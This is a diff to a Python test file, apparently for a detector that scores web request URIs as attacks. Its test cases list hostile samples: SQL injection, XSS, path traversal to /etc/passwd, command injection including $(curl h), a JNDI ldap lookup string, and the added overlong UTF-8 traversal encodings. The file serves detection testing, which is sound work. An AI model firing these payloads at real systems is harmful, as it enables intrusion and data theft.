@@ -19,6 +19,8 @@ def _scores(*uris: str, **more: object) -> np.ndarray:
         "/a?id=1+UNION+ALL+SELECT+1,2", "/a?id=1%2520union%2520select%25201", "/a?id=1/**/union/**/select/**/2",
         "/a?u=x'%20OR%20'7'='7", '/a?u=x")%20or%20("ab"="ab', "/a?q=%3CsCrIpT%3Ealert(1)", "/a?q=%u003cscript%u003e",
         "/..%2f..%2fetc/passwd", "/a?x=;cat%20/etc/group", "/a?x=%24%7Bjndi:ldap://h/a%7D", "/a?x=$(curl+h)",
+        "/..%c0%af..%c0%afetc/hostname", "/%c0%ae%c0%ae%c1%9c%c0%ae%c0%ae%c1%9cx", "/..%c0%9v..%c0%9vx",
+        "/a?x=%3C/div%3E",
     ],
 )  # fmt: skip
 def test_attacks(uri: str) -> None:
